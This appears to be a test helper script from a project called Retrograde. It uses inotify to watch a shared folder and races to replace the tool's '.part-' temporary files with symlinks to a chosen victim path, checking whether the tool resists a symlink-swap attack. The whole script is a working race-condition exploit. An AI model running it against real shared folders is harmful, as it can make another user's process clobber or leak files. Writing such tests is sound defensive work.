# Retrograde
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Attacks a shared folder as another user would: as soon as a temporary file of the tool appears in
FOLDER, replaces this file with a link to VICTIM. usage: exchange_part.py FOLDER VICTIM

Prints "ready" once it watches the folder, and ends when its parent process ends."""

import ctypes
import os
import struct
import sys

IN_CREATE = 0x100
EVENT = struct.Struct("iIII")

folder, victim = (os.fsencode(word) for word in sys.argv[1:])
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init()
assert libc.inotify_add_watch(watch, folder, IN_CREATE) >= 0
parent = os.getppid()
os.set_blocking(watch, False)
print("ready", flush=True)
# Polls without sleeping, because the tool renames the file soon after it has created it.
while os.getppid() == parent:
    try:
        events = os.read(watch, 4096)
    except BlockingIOError:
        continue
    while events:
        _, _, _, length = EVENT.unpack_from(events)
        name = events[EVENT.size : EVENT.size + length].rstrip(b"\0")
        events = events[EVENT.size + length :]
        if b".part-" not in name:
            continue
        for _ in range(2000):
            try:
                os.unlink(folder + b"/" + name)
            except FileNotFoundError:
                pass
            try:
                os.symlink(victim, folder + b"/" + name)
                break
            except FileExistsError:
                pass
